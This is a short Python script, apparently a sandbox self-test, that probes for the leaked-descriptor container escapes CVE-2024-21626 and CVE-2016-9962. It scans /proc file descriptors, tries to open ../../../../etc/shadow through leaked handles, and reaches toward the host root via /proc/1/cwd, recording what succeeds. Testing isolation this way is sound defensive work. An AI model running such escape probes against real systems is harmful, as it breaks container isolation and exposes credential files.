from attempts import attempt, report, results
import os, stat
# CVE-2024-21626 and CVE-2016-9962: a folder of the machine left open, by the runtime or in its init.
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        handles = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        results[f"handles of {pid}"] = type(error).__name__
        continue
    for handle in handles:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{handle}")
        except OSError:
            continue
        own = target.startswith(("pipe:", "host:", "/dev/null", "/dev/pts", "anon_inode:", f"/proc/{pid}/fd", "/proc", "/work/"))
        results[f"{'init' if pid == '1' else 'own'} {handle}"] = "own" if own else f"done"
for handle in range(3, 1024):
    for path in ("..", "../../../../etc/shadow"):
        try:
            os.close(os.open(path, os.O_RDONLY, dir_fd=handle))
            results[f"through {handle}"] = "done"
        except OSError:
            pass
results["handles tried"] = "1021"
for folder in ("cwd", "root"):
    attempt(f"init's {folder}, upwards", lambda: os.stat(f"/proc/1/{folder}/../../../../root/.cache"))
report()
